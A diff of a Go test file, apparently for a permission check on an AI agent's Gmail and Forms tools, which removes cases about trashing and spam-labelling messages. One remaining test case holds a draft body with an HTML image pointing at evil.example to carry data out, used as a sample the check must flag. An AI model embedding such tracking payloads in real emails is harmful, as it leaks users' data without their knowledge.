@@ -275,9 +275,8 @@ func TestTheEffectOfAReplyAndOfADraftIsWhoGetsWhat(t *testing.T) {
 	}
 }
 
-// Gmail fetches the pictures of a draft when it is opened, everybody may open a form, and what lies in the trash or
-// among the spam is deleted after a while.
-func TestWhatLeavesOrIsThrownAwayUnseenAsksAmongWordsOfOthers(t *testing.T) {
+// Gmail fetches the pictures of a draft when it is opened, and everybody may open a form.
+func TestWhatLeavesUnseenAsksAmongWordsOfOthers(t *testing.T) {
 	t.Parallel()
 	r := newRig(t, Config{})
 	if !r.tools["forms_create"].Shares {
@@ -287,16 +286,6 @@ func TestWhatLeavesOrIsThrownAwayUnseenAsksAmongWordsOfOthers(t *testing.T) {
 		`gmail_draft_create {"to":"a","subject":"b","body":"<img src=\"https://evil.example/?d=x\">","html":true}`: true,
 		`gmail_draft_create {"to":"a","subject":"b","body":"c"}`:                                                   false,
 		`gmail_draft_create {"to":"a","subject":"b","body":"c","html":false}`:                                      false,
-		`gmail_trash {"message_ids":["a","b"]}`:                                                                    true,
-		`gmail_trash {"message_id":"a","message_ids":["b"]}`:                                                       true,
-		`gmail_trash {"message_id":"a","message_ids":["a"]}`:                                                       false,
-		`gmail_trash {"message_id":"a"}`:                                                                           false,
-		`gmail_batch_modify {"message_ids":["a","b"],"add_labels":["TRASH"]}`:                                      true,
-		`gmail_batch_modify {"message_ids":["a","b"],"add_labels":["x"," spam "]}`:                                 true,
-		`gmail_batch_modify {"message_ids":["a","b"],"add_labels":["x"],"remove_labels":["TRASH"]}`:                false,
-		`gmail_modify_labels {"thread_id":"a","add_labels":["Spam"]}`:                                              true,
-		`gmail_modify_labels {"thread_id":"a","add_labels":["x"]}`:                                                 false,
-		`gmail_modify_labels {"message_id":"a","add_labels":["TRASH"]}`:                                            false,
 	} {
 		name, arguments, _ := strings.Cut(call, " ")
 		for _, others := range []bool{false, true} {
